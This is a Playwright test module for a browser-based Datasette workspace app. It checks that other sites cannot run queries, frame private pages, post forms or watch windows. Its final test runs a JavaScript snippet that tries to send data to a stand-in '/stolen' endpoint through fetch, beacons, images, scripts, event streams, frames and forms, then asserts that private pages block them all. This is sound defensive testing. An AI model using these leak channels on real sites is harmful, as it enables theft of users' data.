"""What other sites can and cannot do with links, windows and frames that lead here.

The other site is on another port of the same host. Browsers call that the same site, so they keep
neither its windows nor its frames apart from this one's storage.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Download,
    FrameLocator,
    Page,
    Response,
    expect,
)

from tests.support.asgi import fetch
from tests.support.bringing import drop, import_all, import_button, wait_for_previews
from tests.support.browsing import (
    BOOT_TIMEOUT,
    ConsoleWatch,
    follow,
    link,
    wait_for_datasette,
)
from tests.support.hosts import DataHost

SECRETS = b"id,secret\n1,hunter2\n"
LOOK = "data/-/query?sql=select+secret+from+secrets"
QUESTION = "Run this here?"


@pytest.fixture(scope="module")
def _owner(browser: Browser, site: str) -> Iterator[tuple[BrowserContext, str]]:
    context = browser.new_context(accept_downloads=True)
    context.set_default_timeout(BOOT_TIMEOUT)
    page = context.new_page()
    page.goto(site)
    drop(page, {"secrets.csv": SECRETS})
    import_all(page)
    wait_for_datasette(page)
    yield context, page.url.removesuffix("data/secrets")
    context.close()


@pytest.fixture
def private(_owner: tuple[BrowserContext, str]) -> str:
    """A workspace with a file of somebody's own; its address."""
    return _owner[1]


@pytest.fixture
def page(_owner: tuple[BrowserContext, str], request: pytest.FixtureRequest) -> Iterator[Page]:
    """A tab of a person with a private workspace."""
    watch = ConsoleWatch(_owner[0])
    page = _owner[0].new_page()
    yield page
    page.close()
    if request.node.get_closest_marker("console_errors") is None:
        assert watch.errors == [], "the console shows errors"


@pytest.fixture
def fresh(visitor: BrowserContext) -> Page:
    """A tab of a browser context in which nothing is saved."""
    return visitor.new_page()


def visit(page: Page, files: DataHost, html: str) -> None:
    """Open a page of the other site."""
    head = '<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,">'
    files.add("evil.html", (head + html).encode(), headers={"Content-Type": "text/html"})
    page.goto(f"{files.origin}/evil.html")


def follow_link(page: Page, files: DataHost, url: str, policy: str = "") -> None:
    """Follow a link of the other site."""
    visit(page, files, f'<a id="go" referrerpolicy="{policy}" href="{url}">Go</a>')
    with page.expect_navigation():
        page.locator("#go").click()


def framed(page: Page, files: DataHost, url: str) -> FrameLocator:
    """Have the other site show an address in a frame."""
    visit(page, files, f'<iframe id="frame" width="900" height="600" src="{url}"></iframe>')
    return page.frame_locator("#frame")


# Links


@pytest.mark.parametrize("policy", ["", "no-referrer", "origin", "unsafe-url"])
def test_a_link_of_another_site_runs_nothing_in_a_private_workspace(
    page: Page, files: DataHost, private: str, policy: str
) -> None:
    follow_link(page, files, private + LOOK, policy)
    expect(page.get_by_role("heading", level=1)).to_have_text(QUESTION)
    expect(page.locator("#work")).to_have_text("select secret from secrets")
    expect(page.get_by_text("hunter2")).to_have_count(0)
    run = page.get_by_role("button", name="Run it")
    expect(run).to_be_enabled()
    with page.expect_navigation():
        run.click()
    expect(page.get_by_text("hunter2").first).to_be_visible()
    # From there on it is a page like any other.
    page.reload()
    expect(page.get_by_text("hunter2").first).to_be_visible()


@pytest.mark.parametrize(
    "path",
    [
        "data/secrets?secret__startswith=h",
        "data/secrets?_where=secret+like+'h%25'",
        "data/secrets?_facet=secret",
        "data/secrets.csv",
        "data/secrets.json",
        "data.db",
        "-/download/data.db",
        "-/download.zip",
        "data/-/query?%73ql=select+1",
    ],
)
def test_neither_filters_nor_downloads_start_from_outside(
    page: Page, files: DataHost, private: str, path: str
) -> None:
    downloads: list[Download] = []
    page.on("download", lambda download: downloads.append(download))
    follow_link(page, files, private + path.replace("'", "%27"))
    expect(page.get_by_role("heading", level=1)).to_have_text(QUESTION)
    assert downloads == []


def test_the_launcher_is_outside_too(page: Page, files: DataHost, private: str, site: str) -> None:
    """Its links are written by anybody: the query after the # is what they chose."""
    table = files.add("public.csv", b"id,n\n1,5\n")
    follow(page, link(site, "data/public", csv=table))
    public = page.url.removesuffix("data/public")
    row = '{"rows": [{"id": 2, "n": 6}]}'
    headers = {"content-type": "application/json"}
    answer = fetch(page, f"{public}data/public/-/insert", method="POST", body=row, headers=headers)
    assert answer.status == 201, answer.text
    page.goto(link(site, "data/public?n__gt=5", csv=table))
    expect(page.get_by_role("heading", level=1)).to_have_text(QUESTION)


def test_a_question_is_only_asked_where_there_is_something_to_learn(
    page: Page, files: DataHost, site: str
) -> None:
    table = files.add("open.csv", b"id,n\n1,5\n")
    follow(page, link(site, "data/open?n__gt=1", csv=table))
    follow_link(page, files, page.url)
    expect(page.get_by_text("1 row where n > 1").first).to_be_visible()


def test_pages_of_a_private_workspace_open_from_outside(
    page: Page, files: DataHost, private: str
) -> None:
    follow_link(page, files, f"{private}data/secrets")
    expect(page.get_by_text("hunter2").first).to_be_visible()


def test_a_question_does_not_take_a_hasty_click(page: Page, files: DataHost, private: str) -> None:
    """The second half of a double click on the other site's page lands on this one."""
    follow_link(page, files, private + LOOK)
    run = page.locator("#run")
    assert run.evaluate("button => { button.click(); return button.ariaDisabled; }") == "true"
    expect(page.get_by_role("heading", level=1)).to_have_text(QUESTION)


@pytest.mark.console_errors
def test_a_form_of_another_site_does_not_reach_a_private_workspace(
    page: Page, files: DataHost, private: str
) -> None:
    form = f'<form method="post" action="{private}data/-/query"><button>Send</button></form>'
    visit(page, files, form)
    with page.expect_navigation() as navigation:
        page.get_by_role("button").click()
    answer: Response = navigation.value
    assert answer.status == 403
    expect(page.locator(".message")).to_contain_text("another site sent it")


def test_another_window_cannot_be_watched(page: Page, files: DataHost, private: str) -> None:
    visit(page, files, '<button onclick="view = window.open(url)">Open</button>')
    page.evaluate("address => (window.url = address)", f"{private}data/secrets")
    with page.expect_popup() as popup:
        page.get_by_role("button").click()
    wait_for_datasette(popup.value)
    # It has no handle any more: neither frames to count nor a history to measure.
    page.wait_for_function("() => view.closed")
    assert popup.value.evaluate("opener") is None


# Frames


def test_another_site_frames_what_anybody_could_open(
    page: Page, files: DataHost, site: str
) -> None:
    follow(page, f"{site}app/world")
    frame = framed(page, files, f"{site}app/world/continents")
    expect(frame.get_by_text("Europe").first).to_be_visible()


@pytest.mark.parametrize("path", ["data/secrets", "data/secrets.json", "", LOOK])
def test_another_site_does_not_frame_a_private_workspace(
    page: Page, files: DataHost, private: str, path: str
) -> None:
    frame = framed(page, files, private + path)
    expect(frame.get_by_role("heading", level=1)).to_have_text("Open this in a tab of its own")
    expect(frame.locator("button, form, script")).to_have_count(0)


@pytest.mark.console_errors
def test_a_page_inside_a_frame_cannot_lead_to_a_private_workspace(
    page: Page, files: DataHost, private: str, site: str
) -> None:
    """Its request comes from this site, so the browser itself has to look at who frames it."""
    follow(page, f"{site}app/world")
    frame = framed(page, files, f"{site}app/world")
    expect(frame.get_by_role("heading", level=1)).to_have_text("world")
    inner = page.frame(url=re.compile("/app/world$"))
    assert inner is not None
    inner.evaluate("address => { location = address }", f"{private}data/secrets")
    expect(frame.get_by_role("heading", level=1, name="world")).to_have_count(0)
    expect(frame.get_by_text("hunter2")).to_have_count(0)


@pytest.mark.parametrize("path", ["-/install", "-/sources", "world/-/execute-write"])
def test_another_site_does_not_frame_pages_that_decide(
    page: Page, files: DataHost, site: str, path: str
) -> None:
    follow(page, f"{site}app/world")
    frame = framed(page, files, f"{site}app/{path}")
    expect(frame.get_by_role("heading", level=1)).to_have_text("Open this in a tab of its own")


def test_consent_is_not_asked_in_a_frame(page: Page, files: DataHost, site: str) -> None:
    page.goto(link(site, memory="1", install="datasette-vega==0.6.2"))
    expect(page.get_by_role("button", name="Allow and open")).to_be_visible()
    frame = framed(page, files, page.url)
    expect(frame.get_by_role("heading", level=1)).to_have_text("Open this in a tab of its own")


@pytest.mark.console_errors
@pytest.mark.parametrize("controlled", [True, pytest.param(False, marks=pytest.mark.first_visit)])
def test_saved_data_is_not_shown_in_a_frame(
    fresh: Page, files: DataHost, site: str, controlled: bool
) -> None:
    page = fresh
    if controlled:
        follow(page, f"{site}app/")
    frame = framed(page, files, f"{site}saved.html")
    page.wait_for_load_state("networkidle")
    expect(frame.get_by_role("button", name=re.compile("Import|Delete|Export"))).to_have_count(0)


def test_own_pages_may_frame_each_other(page: Page, private: str) -> None:
    page.goto(private)
    page.evaluate(
        """address => {
            const frame = document.createElement("iframe");
            frame.id = "frame";
            frame.src = address;
            document.body.append(frame);
        }""",
        f"{private}data/secrets",
    )
    expect(page.frame_locator("#frame").get_by_text("hunter2").first).to_be_visible()


# Files of one's own


def test_files_of_ones_own_get_an_address_that_nobody_can_guess(fresh: Page, site: str) -> None:
    page = fresh
    addresses = []
    for name in ("first.csv", "second.csv"):
        page.goto(site)
        drop(page, {name: SECRETS})
        import_all(page)
        wait_for_datasette(page)
        addresses.append(page.url)
    first, second = addresses
    assert re.fullmatch(rf"{site}app/@[\w-]{{38}}/data/first", first)
    assert first.split("/")[4] != second.split("/")[4]
    home = second.removesuffix("data/second")
    databases = fetch(page, f"{home}-/databases.json")
    assert '"data"' in databases.text and '"world"' not in databases.text
    # A page of the workspace adds to it.
    drop(page, {"third.csv": SECRETS})
    import_all(page)
    assert page.url == f"{home}data/third"
    page.goto(f"{site}saved.html")
    for name in ("first", "second"):
        expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()


@pytest.mark.first_visit
@pytest.mark.console_errors
def test_elsewhere_the_address_of_own_files_says_what_is_missing(fresh: Page, private: str) -> None:
    for _ in range(2):  # without a worker, then with one
        fresh.goto(private)
        expect(fresh.locator(".message")).to_contain_text("are not in this browser")
        expect(fresh.get_by_text("export the workspace there")).to_be_visible()


def test_nothing_is_left_of_files_that_were_not_imported(fresh: Page, site: str) -> None:
    page = fresh
    page.goto(site)
    dialog = drop(page, {"secrets.csv": SECRETS})
    wait_for_previews(page)
    expect(import_button(page)).to_be_enabled()
    dialog.get_by_role("button", name="Cancel").click()
    page.goto(f"{site}saved.html")
    expect(page.get_by_role("heading", name="Nothing is saved here yet")).to_be_visible()


# Private pages


SEND = """async (elsewhere) => {
    const address = (how) => `${elsewhere}/stolen?how=${how}`;
    const quietly = (promise) => Promise.resolve(promise).catch(() => {});
    const element = (name, fields) =>
        new Promise((resolve) => {
            const made = Object.assign(document.createElement(name), fields);
            made.onload = made.onerror = resolve;
            document.body.append(made);
        });
    await quietly(fetch(address("fetch"), { mode: "no-cors" }));
    await quietly(import(address("import")));
    try {
        navigator.sendBeacon(address("beacon"), "x");
    } catch {}
    await element("img", { src: address("img") });
    await element("script", { src: address("script") });
    await element("link", { rel: "stylesheet", href: address("style") });
    await new Promise((resolve) => {
        const source = new EventSource(address("events"));
        source.onerror = () => resolve(source.close());
    });
    await element("iframe", { src: address("frame") });
    // Submitted into a frame, so that this page stays; it hears of what its policy forbids.
    await element("iframe", { name: "target", srcdoc: "" });
    const form = document.createElement("form");
    Object.assign(form, { action: address("form?"), method: "post", target: "target" });
    document.body.append(form);
    const forbidden = new Promise((resolve) => {
        addEventListener("securitypolicyviolation", (event) => {
            if (event.effectiveDirective === "form-action") resolve();
        });
    });
    const target = document.querySelector("[name=target]");
    const sent = new Promise((resolve) => (target.onload = resolve));
    form.submit();
    await Promise.race([forbidden, sent]);
}"""


@pytest.mark.console_errors
@pytest.mark.parametrize("private", [True, False])
def test_private_pages_talk_to_this_site_only(
    fresh: Page, files: DataHost, site: str, private: bool
) -> None:
    table = files.add("t.csv", b"a\n1\n")
    follow(fresh, link(site, "data/t", csv=table, **({"private": "1"} if private else {})))
    files.requests.clear()
    fresh.evaluate(SEND, files.origin)
    sent = {path.partition("how=")[2].rstrip("?") for _, path in files.requests}
    everything = {"fetch", "beacon", "img", "script", "style", "events", "frame", "form"}
    assert sent == set() if private else everything <= sent
